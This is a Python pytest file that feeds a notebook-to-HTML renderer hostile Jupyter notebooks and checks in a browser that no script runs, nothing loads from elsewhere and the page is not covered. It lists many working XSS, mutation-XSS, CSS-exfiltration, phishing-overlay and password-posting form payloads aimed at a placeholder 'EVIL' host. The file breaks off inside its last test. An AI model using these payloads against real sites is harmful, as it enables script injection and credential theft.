"""Hostile notebooks in a real browser: their pages are opened, pointed at, clicked and walked through by keyboard.

What counts is what the browser did: whether a script ran, a server was asked, the page was left, covered or hidden.
"""

# ruff: noqa: E501  # an attack stands on one line, as it is known elsewhere
from __future__ import annotations

import json
import threading
from collections import Counter
from collections.abc import Callable, Iterator
from functools import reduce
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import ModuleType
from typing import TYPE_CHECKING, Any

import pytest
from nbformat import NotebookNode
from nbformat.v4 import new_markdown_cell, new_output, new_raw_cell

from caderno.plan.records import Code, Failure, Git, Input, Output, TaskRecord, TrackingRun

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Page

HARMS = {"ran", "loaded", "left", "opened", "submitted", "covered", "shadowed", "linked"}

# EVIL stands for the address of somebody else's server. Each is put wherever a notebook can put text.
HTML = {
    # scripts
    "script": "<script>window.pwned = 1</script>",
    "script in odd letters": "<ScRiPt\n>window.pwned = 1</sCrIpT\n>",
    "script from elsewhere": '<script src="EVIL/x.js"></script><script type="module">import "EVIL/m.js"</script>',
    "script that is cut": "<scr<script>ipt>window.pwned = 1</scr</script>ipt><script>alert(1)</script>",
    "script that prefetches": (
        '<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["EVIL/p"]}]}</script>'
        "<script>open('EVIL/popup')</script>"
    ),
    # handlers
    "onerror": "<img src=x onerror=window.pwned=1><img/src=x/onerror=alert(1)>",
    "onload": "<svg onload=window.pwned=1></svg><style onload=alert(1)></style>",
    "onload of a picture": f'<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload={"alert(1)"}>'
    "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"/>' onload='document.title=1'>",
    "ontoggle": "<details open ontoggle=window.pwned=1><summary>see</summary>more</details>",
    "onfocus": "<input autofocus onfocus=window.pwned=1><p tabindex=1 autofocus onfocus=alert(1)>see</p>",
    "onfocus of a link": '<a href="#x" onfocus=window.pwned=1 onblur=alert(1)>see</a>',
    "onanimationstart": "<style>@keyframes x {}</style><b style='animation: x 1s' onanimationstart=alert(1)>see</b>",
    "ontransitionend": (
        "<style>b:hover { opacity: .9; transition: opacity 1ms }</style><b ontransitionend=alert(1)>see</b>"
    ),
    "onpointerenter": "<p onpointerenter=window.pwned=1>see</p><p onpointerdown=alert(1)>see</p>",
    "onmouseover": "<b onmouseover=alert(1) title='\" onmouseover=alert(1) '>see</b>",
    "onclick": "<p onclick=window.pwned=1>see</p><table><tr><td onclick=alert(1)>1</td></tr></table>",
    "onbeforetoggle": "<button popovertarget=p>see</button><p popover id=p onbeforetoggle=window.pwned=1>more</p>",
    "onscrollend": "<div onscroll=alert(1) style='height: 9px; overflow: auto'><br><br><br><b autofocus tabindex=1>b",
    "handler after a slash": '<b/onclick="alert(1)">see</b><b\fonclick=alert(1)>see</b><b x="`"onclick=alert(1)>see</b>',
    # addresses that run
    "javascript link": '<a href="javascript:window.pwned=1">see</a>',
    "javascript link with a tab": '<a href="java\tscript:window.pwned=1">see</a><a href="java&Tab;script:alert(1)">b</a>',
    "javascript link in entities": '<a href="&#106;&#x61vascript&colon;window.pwned=1">see</a>',
    "javascript link after controls": '<a href="\x01\x1fjavascript:window.pwned=1">see</a><a href=" javascript:alert(1)">b</a>',
    "javascript link over lines": '<a href="&NewLine;java&#10;scri&#13;pt:window.pwned=1">see</a>',
    "javascript in svg": (
        '<svg width=90 height=30><a href="javascript:window.pwned=1"><rect width=90 height=30 /></a></svg>'
        '<svg width=90 height=30><a xlink:href="javascript:alert(1)"><text y=20>see</text></a></svg>'
    ),
    "javascript in a form": '<form action="javascript:window.pwned=1"><button>see</button></form>',
    "javascript in formaction": '<form><button formaction="javascript:window.pwned=1">see</button></form>',
    "javascript in an area": (
        '<img usemap="#m" width=90 height=90 src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">'
        '<map name=m><area shape=default href="javascript:window.pwned=1"></map>'
    ),
    "javascript in mathml": '<math href="javascript:window.pwned=1"><mi href="javascript:window.pwned=1">see</mi></math>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">see</a>',
    "data link with a tab": '<a href="da\tta:text/html,<script>alert(1)</script>">see</a>',
    "data link after controls": '<a href="\x01data:text/html,<script>alert(1)</script>">see</a><a href="d&#10;ata:,x">b</a>',
    "other schemes": '<a href="vbscript:x">a</a><a href="blob:x">b</a><a href="file:///etc/passwd">c</a><a href="tel:1">d</a>',
    "a share of another host": '<a href="//evil.example/x">see</a><a href="\\\\evil.example\\x">b</a><a href="/\t/evil.example">c</a>'
    '<a href="/..//evil.example/x">d</a><a href="../../../../../../../../../..//evil.example">e</a>',
    "link that takes all": (
        '<a href="EVIL/" target="_top" download="x.exe" ping="EVIL/ping" rel="opener">see</a>'
        '<a href="#made" ping="EVIL/ping" target="_blank">see</a>'
    ),
    # what loads
    "pictures": (
        '<img src="EVIL/a.png"><img srcset="EVIL/b.png 1x"><picture><source srcset="EVIL/c.png"><img></picture>'
        '<input type=image src="EVIL/d.png"><img lowsrc="EVIL/e.png" dynsrc="EVIL/f.png" longdesc="EVIL/g">'
    ),
    "film and sound": (
        '<video src="EVIL/v.mp4" poster="EVIL/p.png" autoplay></video><audio src="EVIL/a.mp3" autoplay></audio>'
        '<video><source src="EVIL/s.mp4"><track src="EVIL/t.vtt" default></video>'
    ),
    "objects": '<object data="EVIL/o"></object><embed src="EVIL/e"><applet code="EVIL/a"></applet>',
    "frame": '<iframe src="EVIL/frame"></iframe><frameset><frame src="EVIL/f"></frameset>',
    "frame that runs": '<iframe src="javascript:parent.pwned=1"></iframe>',
    "srcdoc": '<iframe srcdoc="<script>parent.pwned=1</script><img src=EVIL/x>"></iframe>',
    "fenced frame": '<portal src="EVIL/p"></portal><fencedframe src="EVIL/f"></fencedframe><iframe src="EVIL/q"></iframe>',
    "base": '<base href="EVIL/"><img src="x.png"><a href="x">see</a>',
    "refresh": '<meta http-equiv="refresh" content="0;url=EVIL/left">',
    "policy of its own": '<meta http-equiv="Content-Security-Policy" content="script-src *"><script src="EVIL/x.js"></script>',
    "link elements": (
        '<link rel="stylesheet" href="EVIL/x.css"><link rel="prefetch" href="EVIL/p"><link rel="icon" href="EVIL/i">'
        '<link rel="preload" as="image" href="EVIL/l"><link rel="modulepreload" href="EVIL/m.js">'
    ),
    "link that connects": '<link rel="preconnect" href="EVIL"><link rel="dns-prefetch" href="EVIL">',
    "style that imports": '<style>@import "EVIL/y.css"; @font-face { font-family: f; src: url(EVIL/f) } b { font: 9px f }</style><b>x</b>',
    "style that loads": (
        '<div style="background: url(EVIL/b.png); width: 9px; height: 9px">see</div>'
        '<table><tr style="text-align: url(EVIL/c.png); list-style: url(EVIL/d.png); display: list-item"><td>1</table>'
        '<table background="EVIL/t.png"><tr><td background="EVIL/u.png">1</td></tr></table>'
    ),
    "style that reads": '<style>a[href^="#"] { background: url(EVIL/read) }</style><a href="#x">see</a>',
    # SVG and MathML
    "svg script": "<svg><script>window.pwned=1</script><script href='EVIL/s.js'/></svg>",
    "svg foreign object": (
        "<svg width=90 height=90><foreignObject width=90 height=90><img src=x onerror=window.pwned=1>"
        '<iframe xmlns="http://www.w3.org/1999/xhtml" src="EVIL/f"></iframe></foreignObject></svg>'
    ),
    "svg animate": (
        '<svg width=90 height=30><a><animate attributeName="href" values="javascript:window.pwned=1" begin="0s" '
        'dur="9s" fill="freeze"/><rect width=90 height=30 /></a></svg>'
    ),
    "svg set": (
        '<svg width=90 height=30><a><set attributeName="href" to="javascript:window.pwned=1"/><rect width=90 height=30 '
        "/></a><animate onbegin=alert(1) attributeName=x dur=1s /></svg>"
    ),
    "svg use": (
        '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/>'
        '<use xlink:href="EVIL/u.svg#x"/><image href="EVIL/i.png"/><feImage href="EVIL/fe.png"/></svg>'
    ),
    "svg style": "<svg><style>* { display: none !important } @import 'EVIL/svg.css';</style></svg>",
    "svg that changes its page": (
        '<svg xmlns="http://www.w3.org/2000/svg" width="60" height="20"><script>parent.pwned=1;top.location="EVIL/svg"'
        '</script><image href="EVIL/i.png" width="9" height="9"/><rect width="60" height="20" onclick="alert(1)"/></svg>'
    ),
    "svg of another height": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 99999999"></svg>'
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="99999999"></svg>',
    "mathml action": (
        '<math><maction actiontype="statusline#EVIL" xlink:href="javascript:window.pwned=1">see<mtext>b</mtext></maction>'
        "<mi onclick=window.pwned=1>see</mi></math>"
    ),
    "mathml annotation": (
        '<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><img src=x onerror=window.pwned=1>'
        "</annotation-xml></semantics></math>"
    ),
    # what a second reading of it may turn into something else
    "mutation by mglyph": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>"
        "</style></mglyph></form></mtext></math></form>"
    ),
    "mutation by mtext": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
        "<img src=x onerror=window.pwned=1>"
    ),
    "mutation by a style in svg": ('<svg></p><style><a id="</style><img src=1 onerror=window.pwned=1>">'),
    "mutation by a title in svg": '<svg><title><style><a title="</style></title></svg><img src onerror=window.pwned=1>">',
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
    "mutation by template": "<template><p title='</template><img src=x onerror=window.pwned=1>'></template><img src=x onerror=alert(1)>",
    "mutation by textarea": '<textarea><p title="</textarea><img src=x onerror=window.pwned=1>">',
    "mutation by xmp": '<xmp><p title="</xmp><img src=x onerror=window.pwned=1>">',
    "mutation by noembed": '<noembed><p title="</noembed><img src=x onerror=window.pwned=1>">',
    "mutation by iframe": '<iframe><p title="</iframe><img src=x onerror=window.pwned=1>">',
    "mutation by plaintext": "<img src=x onerror=window.pwned=1><plaintext><script>alert(1)</script>",
    "mutation by select": "<select><style></select><img src=x onerror=window.pwned=1></style></select>",
    "mutation by a comment": "<!--><img src=x onerror=window.pwned=1>-->",
    "mutation by a bang": "<!-- --!><img src=x onerror=window.pwned=1>--><!--<b>-!>",
    "mutation by a long dash": "<!---><img src=x onerror=window.pwned=1>--><!-- <!-- --!> --><!>",
    "mutation by a declaration": "<?x ><img src=x onerror=window.pwned=1>?><!DOCTYPE x [<!ENTITY a '>'>]><![CDATA[><img src=x onerror=alert(1)>]]>",
    "mutation by cdata in svg": "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg><svg><desc><![CDATA[><img src=x onerror=window.pwned=1>]]>",
    "mutation by tables": "<table><b><tr><td><a href=#x><table><a><img src=x onerror=window.pwned=1></table></a></td></tr>x<p>",
    "mutation by nested forms": '<form id=a><div></form><form action="EVIL/form"><input name=a autofocus><button>see</button>',
    "mutation by deep nesting": "<div>" * 200
    + "<svg></svg><table>" * 3
    + "<img src=x onerror=window.pwned=1>"
    + "</div>" * 200,
    "end tags": "</p></div></details></figure></section></main></body></html></pre></code></td></table><script>window.pwned=1</script>",
    "an end of the summary": '<b title="<!-- /summary -->">b</b><!-- summary --><img src=x onerror=window.pwned=1><!-- /summary -->',
    "nothing between": "<\x00script>alert(1)</script><img src=x onerror\x00=window.pwned=1><img src=x onerror=\x00alert(1)><img src=x onerror=pwned=1>",
    # forms
    "form": '<form action="EVIL/form"><input name=password type=password><button id=b>see</button></form><script>b.click()</script>',
    "button of another form": '<button form=f formaction="EVIL/form">see</button><form id=f></form><input type=submit form=f>',
    "form that posts": '<form method=post action="EVIL/form"><label>Password <input name=p></label><input type=submit></form>',
    "form that opens": '<form target=_blank action="EVIL/form"><button>see</button></form>',
    # what covers, hides or imitates the page
    "cover": '<div style="position: fixed; inset: 0; background: white; z-index: 999999">Log in again</div>',
    "cover by a style": "<style>#x { position: fixed; inset: 0; z-index: 9999; background: white }</style><div id=x>Log in</div>",
    "cover by an image": '<img style="position: absolute; top: 0; left: 0; width: 3000px; height: 9000px" alt=x src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
    "cover in a table": '<table><tr><td style="text-align: left; position: fixed; inset: 0; font-weight: bold">Log in</td></tr></table>',
    "cover by escapes": '<table><td style="p\\6fsition: fixed; inset: 0; text-align: left/**/;position:/**/fixed">Log in</td></table>',
    "cover by a margin": '<div style="margin-top: -3000px; height: 6000px; background: white; position: relative">Log in</div>',
    "cover by a shift": '<div style="transform: translateY(-50%) scale(99); position: sticky; top: 0">Log in</div>',
    "cover by a font": '<div style="font-size: 3000px; line-height: 0; position: relative">LOG</div><font size=7>IN</font>',
    "cover to the left": '<div dir="rtl"><table class="dataframe"><tr>'
    + "<td>Log_in_again</td>" * 40
    + "</tr></table></div>",
    "hide": "<style>body { display: none !important }</style>",
    "hide a part": "<style>#made, h1 { visibility: hidden } main { opacity: 0 }</style>",
    "dialog": '<dialog open style="position: fixed; inset: 0; width: 100%; height: 100%">Log in</dialog>',
    "popover": '<button popovertarget=q autofocus>see</button><div popover id=q style="inset: 0; width: 3000px; height: 3000px">Log in</div>',
    "marquee": "<marquee onstart=window.pwned=1>see</marquee><blink>see</blink><center><big>see</big></center>",
    "our classes": (
        '<div class="skip" style="top: 0">Log in</div><a class="skip" href="EVIL/">Log in</a><nav class="contents">Log in</nav>'
        '<section class="banner failed"><h2>✕ ValueError</h2></section><article class="summary">All is well</article>'
        '<div class="cell code-cell not-run">x</div><span class="state succeeded">✓ succeeded</span>'
    ),
    "our ids": (
        '<p id="main">a</p><p id="failure">b</p><h1 id="made">c</h1><h2 id="summary">d</h2><h3 id="notebook">e</h3>'
        '<a name="main">f</a><img name="getElementById" id="body"><form id="location" name="forms"></form>'
    ),
    "our headings": '<h1 id="h-what">a</h1><h3 id="h-reshape">b</h3><main id="main"><h1>All is well</h1></main>',
    "title": "<title>pwned</title><svg><title>pwned</title></svg><body onload=alert(1) class=x id=y><html lang=xx>",
    "custom elements": '<x-y onclick=alert(1) is="x">see</x-y><slot name=x onslotchange=alert(1)></slot><div><template shadowrootmode=open><script>window.pwned=1</script></template></div>',
}

MARKDOWN = {
    "links": (
        "[see](javascript:window.pwned=1) [b](<java\tscript:alert(1)>) [c](JaVaScRiPt:alert(1)) [d](\\\\evil.example\\x)\n\n"
        "[e](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [f](//evil.example/x) [g](&#106;avascript:alert(1))"
    ),
    "reference links": (
        "[see][x] and [b] and [c][]\n\n[x]: javascript:window.pwned=1\n[b]: data:text/html,x '\" onclick=alert(1) x=\"'\n"
        '[c]: <javascript:alert(1)> "t"'
    ),
    "autolinks": "<javascript:window.pwned=1> <javascript://x.example/%0aalert(1)> <data:text/html,x> <EVIL/ok>",
    "titles": '[see](EVIL/ok "\\" onmouseover=window.pwned=1 x=\\"") ![x](data:image/png;base64,AAAA "\\" onerror=alert(1)")',
    "images": '![x](EVIL/a.png) ![y](javascript:alert(1)) ![" onerror=alert(1) x="](data:image/svg+xml,<svg/onload=alert(1)>)',
    "headings": (
        '## <img src=x onerror=window.pwned=1> [x](javascript:alert(1))\n\n### " onclick=alert(1) id="main\n\n'
        "## main\n\n## <script>alert(1)</script>\n\nfailure\n-----\n\n#### " + "x" * 9000
    ),
    "a heading that takes an anchor": '<h2 id="h-real">fake</h2>\n\n## Real\n\n<h2 id="h-real">fake</h2>',
    "raw html in lists and tables": (
        "- <img src=x onerror=window.pwned=1>\n- <svg onload=alert(1)>\n\n| a |\n| --- |\n| <script>alert(1)</script> |\n\n"
        "> <iframe src=EVIL/f>\n\n<div>\n\n</main></body><script>alert(1)</script>\n\n"
    ),
    "code": '```html" onclick="alert(1)\n<script>window.pwned=1</script>\n```\n\n`<img src=x onerror=alert(1)>`\n\n    <script>alert(1)</script>',
    "formulas": '$<img src=x onerror=window.pwned=1>$ $$</code><script>alert(1)</script>$$ \\begin{x"><svg onload=alert(1)>}x\\end{x}',
    "nesting": ">" * 2000 + " deep\n\n" + "[" * 3000 + "![" * 300 + "*_" * 3000,
    "a wide table": "<table dir=rtl class=dataframe><tr>"
    + "<td>Log_in_again</td>" * 40
    + "</tr></table>\n\n"
    + "W" * 3000,
}

PLAIN = {
    "markup": "</pre></code><script>window.pwned=1</script><img src=x onerror=alert(1)>\"' onclick=alert(1)",
    "colours": "\x1b[31m<script>window.pwned=1</script>\x1b[0m\x1b[1;38;2;1;2;3m<img src=x onerror=alert(1)>\x1b[m",
    "colours that are none": (
        '\x1b[38;2;1;2;"><script>alert(1)</script>m \x1b[38;5;999mx\x1b[48;2;300;0;0mx\x1b[1;1;1;38m x \x1b[38;5m x \x1b[48m x'
    ),
    "a colour cut short": "\x1b[38mseen\x1b[48m",
    "endless colours": "\x1b[" + "9" * 6000 + "m" + "\x1b[1;4;7m" * 300 + "x\x1b",
    "terminal links": "\x1b]8;;javascript:window.pwned=1\x07see\x1b]8;;\x07 \x1b]0;title\x07\x1b]52;c;AAAA\x1b\\ \x1bP<img src=x>\x1b\\",
    "control characters": "\x00\x01\x08\x0b\x0c\x7f\x9b31m\u202egnirts\u2066 \ud800 \ufffe <!--\r<script>alert(1)</script>\r",
    "end of a comment": "--> <!-- /summary --> <!-- summary --><script>window.pwned=1</script><!-- /summary --> ]]> {{ 7*7 }} {% x %}",
}

WORD = (
    "\"'><img src=x onerror=window.pwned=1></title></style></script><script>alert(1)</script><svg onload=alert(1)><!--"
)

Made = tuple[TaskRecord, NotebookNode]
Maker = Callable[[ModuleType], Made]


def everywhere(samples: ModuleType, text: str) -> Made:
    """Put `text` in every place of a notebook that holds text."""
    line = " ".join(text.split())
    error = new_output("error", ename=text, evalue=text, traceback=text.split("\n"))
    cells = [
        new_markdown_cell(f"# Title {line}\n\nWhat {line}?\n\nThis {text}"),
        new_markdown_cell(f"## Section {line}"),
        new_markdown_cell(text),
        samples.code(text, samples.shown({"text/html": f"seen {text}"}), name="html"),
        samples.code("2", samples.shown({"text/markdown": text}), n=2),
        samples.code("3", samples.printed(text), samples.printed(text, "stderr"), error, n=3),
        samples.code(
            "4", samples.shown({"text/latex": text}), samples.shown({"application/json": {text: [text]}}), n=4
        ),
        samples.code(
            "5",
            samples.shown({"application/javascript": "window.pwned = 1", "text/plain": text}),
            samples.shown({"application/vnd.plotly.v1+json": {"data": text}, "text/html": text}),
            samples.shown({f"x/{text}": text}),
            n=5,
        ),
        new_raw_cell(text),
        samples.code("6", samples.shown({"text/html": f"seen {text}"}), n=6, tags=["summary"]),
    ]
    if "<svg" in text:
        cells.append(samples.code("7", samples.shown({"image/svg+xml": text}), n=7))
    return samples.record(), samples.notebook(*cells)


def story(samples: ModuleType, *cells: NotebookNode) -> NotebookNode:
    """Return a notebook with a summary in which the cells stand as they are, whatever nbformat thinks of them."""
    ours = samples.code("1", samples.shown({"text/plain": "all is well"}), tags=["summary"], name="sum")
    book = samples.notebook(new_markdown_cell("# What is it?"))
    book["cells"] += [*cells, ours]
    return book


def recorded(**changes: Any) -> Maker:
    return lambda samples: (samples.record(**changes), story(samples))


def with_outputs(*outputs: dict[str, Any]) -> Maker:
    def make(samples: ModuleType) -> Made:
        cell = samples.code("1", name="odd")
        cell["outputs"] = [NotebookNode(output) for output in outputs]
        return samples.record(), story(samples, cell)

    return make


def with_cells(*cells: dict[str, Any], metadata: Any = None, **changes: Any) -> Maker:
    def make(samples: ModuleType) -> Made:
        book = story(samples, *map(NotebookNode, cells))
        if metadata is not None:
            book["metadata"] = metadata
        return samples.record(**changes), book

    return make


def a_code_cell(**changes: Any) -> dict[str, Any]:
    fields = {"cell_type": "code", "source": "x = 1", "metadata": {}, "outputs": [], "execution_count": 1, "id": "x"}
    return fields | changes


def a_failure(**changes: Any) -> Maker:
    failure = {"kind": "ValueError", "message": "no", "cell": 5, "source": "x", "traceback": ""} | changes
    return lambda samples: (samples.failed_record(failure=Failure(**failure)), samples.broken())


def broken_twice(samples: ModuleType) -> NotebookNode:
    book: NotebookNode = samples.broken()
    for cell in book["cells"]:
        cell["id"] = "pivot"
    return book


def a_tracking_run(url: str) -> Maker:
    run = TrackingRun(tracking_uri=f"http://u:p@{WORD}", experiment_id=WORD, run_id=WORD, url=url)
    return recorded(tracking=run)


def a_picture(kind: str, data: Any, metadata: Any) -> dict[str, Any]:
    return {"output_type": "display_data", "data": {kind: data}, "metadata": metadata}


PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
MADE: dict[str, Maker] = {
    "name of a task": recorded(task=f"compare[{WORD}]"),
    "name of a pipeline": recorded(pipeline=WORD, profile=WORD, run=WORD),
    "path of the notebook": recorded(notebook=WORD),
    "parameters": recorded(params={WORD: WORD, "deep": [{WORD: [WORD]}], "y": "x" * 200 + WORD}, overridden=[WORD, "y"]),
    "environment": recorded(env={WORD: WORD, "none": None}, kernel=WORD),
    "git": recorded(git=Git(commit=WORD, branch=WORD, dirty=True)),
    "user and host": recorded(user=WORD, host=WORD),
    "metrics": recorded(metrics={WORD: 1.0, "nan": float("nan"), "inf": float("-inf"), "big": 1e308, "small": 5e-324}),
    "inputs": recorded(
        inputs={WORD: [Input(source=WORD, path=WORD, digest=WORD, size=10**30, task=task, fingerprint=WORD) for task in (None, WORD)]}
    ),
    "outputs": recorded(outputs={WORD: Output(path=WORD, digest=WORD, size=-1, model_uri=WORD)}),
    "packages": recorded(code=Code(notebook=WORD, cells=[WORD], units={WORD: WORD}, packages={WORD: WORD}, python=WORD)),
    "what was not seen": recorded(unseen=[WORD], undeclared=[WORD]),
    "address of a script": a_tracking_run("javascript:window.pwned=1"),
    "address with a quote": a_tracking_run("http://x/\" onclick=alert(1) '><script>alert(1)</script>"),
    "address that begins well": a_tracking_run("https:javascript:alert(1)"),
    "address over lines": a_tracking_run("\njavascript:alert(1)//http://"),
    "failure": a_failure(kind=WORD, message=WORD, source=WORD),
    "failure with a traceback": a_failure(traceback=f"\x1b[31m{WORD}\x1b[0m {WORD}", number=3),
    "failure with a broken traceback": a_failure(traceback=PLAIN["colours that are none"]),
    "failure in the second cell of its id": lambda samples: (samples.failed_record(), broken_twice(samples)),
    "failure in no cell": a_failure(cell=99, message="\x1b[31m" + WORD),
    "width with a handler": with_outputs(
        a_picture("image/png", PIXEL, {"width": "1 onerror=window.pwned=1", "height": '1" onerror="alert(1)'}),
        a_picture("image/png", PIXEL, {"image/png": {"width": [1], "height": {"a": 1}}}),
        a_picture("image/png", PIXEL, {"image/png": {"width": 10**40, "height": -1}}),
        a_picture("image/png", PIXEL, {"image/png": {"width": 1e308, "height": True}}),
        a_picture("image/png", PIXEL, {"image/png": {"width": 10000, "height": 10000}}),
    ),
    "picture that is none": with_outputs(
        a_picture("image/png", f'{PIXEL}" onerror="alert(1)', {}),
        a_picture("image/jpeg", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", {}),
        a_picture("image/svg+xml", '"><script>window.pwned=1</script><svg onload=alert(1)>', {}),
        a_picture('image/png" onerror="alert(1)', PIXEL, {}),
        a_picture("image/svg+xml", ["<svg>", "<script>alert(1)</script>", 7], {}),
    ),
    "json with an end of script": with_outputs(
        a_picture("application/json", {"a": "</script><script>window.pwned=1</script>", WORD: WORD}, {}),
        a_picture("application/vnd.plotly.v1+json", {"data": ["</script><script>alert(1)</script>"]}, {}),
        a_picture("application/vnd.jupyter.widget-view+json", {"model_id": WORD}, {WORD: WORD}),
        a_picture("application/javascript", "window.pwned = 1", {}),
        a_picture(WORD, WORD, WORD),
    ),
    "names of streams": with_outputs(
        {"output_type": "stream", "name": WORD, "text": WORD},
        {"output_type": "stream", "name": {WORD: 1}, "text": [WORD, WORD]},
        {"output_type": WORD, "name": WORD, "text": WORD},
        {"output_type": "execute_result", "execution_count": WORD, "data": {"text/plain": WORD}, "metadata": {}},
    ),
    "error that is too long": with_outputs(
        {"output_type": "error", "ename": WORD, "evalue": WORD * 2000, "traceback": [WORD] * 50}
    ),
    "id of a cell": with_cells(
        a_code_cell(id='x" onclick="alert(1)'), a_code_cell(id="main"), a_code_cell(id=f"a{WORD}"), a_code_cell(id="../x")
    ),
    "two cells of one id": with_cells(
        a_code_cell(id="same"), a_code_cell(id="same"), a_code_cell(id="1"), a_code_cell(id="sum"), a_code_cell(id="injected-parameters"),
        a_code_cell(metadata={"tags": ["injected-parameters"]}), a_code_cell(id=None), a_code_cell(id="6"),
    ),
    "tags": with_cells(a_code_cell(metadata={"tags": [WORD, "parameters"], WORD: WORD}), a_code_cell(metadata={"name": WORD})),
    "count of a cell": with_cells(a_code_cell(execution_count=WORD), a_code_cell(execution_count=10**30)),
    "language": with_cells(
        a_code_cell(source=WORD),
        metadata={"language_info": {"pygments_lexer": WORD, "name": WORD}, "kernelspec": {"display_name": WORD}, "title": WORD},
    ),
    "language of markup": with_cells(a_code_cell(source=WORD), metadata={"language_info": {"pygments_lexer": "html"}}),
    "kind of an attachment": with_cells(
        {
            "cell_type": "markdown", "metadata": {}, "source": "![x](attachment:a.png) ![y](attachment:b) ![z](attachment:<b>)",
            "attachments": {
                "a.png": {'image/png" onerror="alert(1)': PIXEL, "text/html": "PHNjcmlwdD4="}, "b": {"image/svg+xml": WORD},
                "<b>": {"image/png": f'{PIXEL}" onerror="window.pwned=1'},
            },
        }
    ),
    "attachment that is markup": with_cells(
        {
            "cell_type": "markdown", "metadata": {}, "source": '![x](attachment:"onerror=alert(1)) ![" onerror=alert(1)](attachment:a)',
            "attachments": {'"onerror=alert(1)': {"image/png": PIXEL}, "a": {"text/html": "PHNjcmlwdD4="}},
        }
    ),
    "raw cell": with_cells(
        {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": WORD},
        {"cell_type": WORD, "metadata": {}, "source": [WORD, WORD]},
    ),
}  # fmt: skip


def notebooks() -> dict[str, Maker]:
    """All hostile notebooks by name; EVIL is still to be replaced in their text."""
    texts = {
        **{f"html: {name}": text for name, text in HTML.items()},
        **{f"markdown: {name}": text for name, text in MARKDOWN.items()},
        **{f"text: {name}": text for name, text in PLAIN.items()},
    }
    made: dict[str, Maker] = {
        name: lambda samples, text=text: everywhere(samples, text)  # type: ignore[misc]
        for name, text in texts.items()
    }
    return made | {f"made: {name}": make for name, make in MADE.items()}


def named() -> list[Any]:
    """All of their names; most of the many HTML ones are only tried where there is time."""
    slow = {f"html: {name}" for place, name in enumerate(HTML) if place % 4}
    return [pytest.param(name, marks=pytest.mark.slow if name in slow else ()) for name in notebooks()]


# What nbformat would refuse: a page is made of it all the same. Each stands for a whole notebook, or for its one cell.
ODD: dict[str, Any] = {
    "no cells": {"metadata": {}},
    "cells that are none": {"cells": None, "metadata": None},
    "cells in a text": {"cells": "cells", "metadata": []},
    "cells that are texts": {"cells": ["a", None, 7, ["b"], {}], "metadata": {}},
    "language that is a text": {"cells": [a_code_cell()], "metadata": {"language_info": "python"}},
    "language that is none": {"cells": [a_code_cell()], "metadata": {"language_info": None}},
    "lexer that is a list": {"cells": [a_code_cell()], "metadata": {"language_info": {"pygments_lexer": [1]}}},
    "cell without anything": {"cell_type": "code"},
    "prose without anything": {"cell_type": "markdown"},
    "cell of no kind": {"source": "x"},
    "kind that is a list": {"cell_type": [], "source": "x"},
    "source that is none": a_code_cell(source=None),
    "source that is a mapping": a_code_cell(source={"a": 1}),
    "source of numbers": a_code_cell(source=[1, None, "x"]),
    "prose of numbers": {"cell_type": "markdown", "source": [1, None, "# x"], "attachments": [7]},
    "metadata that is none": a_code_cell(metadata=None),
    "metadata that is a list": a_code_cell(metadata=["summary"]),
    "tags that are none": a_code_cell(metadata={"tags": None}),
    "tags that are a text": a_code_cell(metadata={"tags": "summary"}),
    "tags that are anything": a_code_cell(metadata={"tags": [{}, [], None, 7, "summary"]}),
    "id that is a mapping": a_code_cell(id={"a": []}),
    "count that is a mapping": a_code_cell(execution_count={}),
    "count that is endless": a_code_cell(execution_count=10**5000),
    "outputs that are none": a_code_cell(outputs=None),
    "outputs that are a mapping": a_code_cell(outputs={"output_type": "stream"}),
    "outputs that are texts": a_code_cell(outputs=["a", None, 7, []]),
    "output without anything": a_code_cell(outputs=[{}]),
    "output of a kind that is a list": a_code_cell(outputs=[{"output_type": []}]),
    "stream without text": a_code_cell(outputs=[{"output_type": "stream", "name": "stdout"}, {"output_type": "stream"}]),
    "stream of anything": a_code_cell(outputs=[{"output_type": "stream", "name": {}, "text": [1, None, {}]}]),
    "error without anything": a_code_cell(outputs=[{"output_type": "error"}]),
    "error of anything": a_code_cell(outputs=[{"output_type": "error", "ename": [], "evalue": {}, "traceback": [1, None]}]),
    "traceback that is none": a_code_cell(outputs=[{"output_type": "error", "traceback": None}]),
    "traceback that is a text": a_code_cell(outputs=[{"output_type": "error", "traceback": "a\nb"}]),
    "data that is none": a_code_cell(outputs=[{"output_type": "display_data", "data": None, "metadata": None}]),
    "data that is a text": a_code_cell(outputs=[{"output_type": "display_data", "data": "text/plain"}]),
    "data of anything": a_code_cell(outputs=[a_picture(kind, data, []) for kind in ("text/html", "image/png", "image/svg+xml", "text/markdown", "text/latex", "text/plain") for data in (None, 7, {}, [None, 7], [])]),
    "json that is too deep": a_code_cell(outputs=[a_picture("application/json", reduce(lambda deep, _: [deep], range(5000), []), {})]),
}  # fmt: skip


@pytest.mark.parametrize("name", ODD)
def test_a_page_is_made_of_a_malformed_notebook(name: str, samples: ModuleType) -> None:
    odd = ODD[name]
    whole = "cells" in odd or ("cell_type" not in odd and "metadata" in odd)
    book = odd if whole else {"cells": [odd, a_code_cell(id="last", source="last_of_all = 1")], "metadata": {}}
    page = samples.soup(samples.render_task(samples.record(), book))
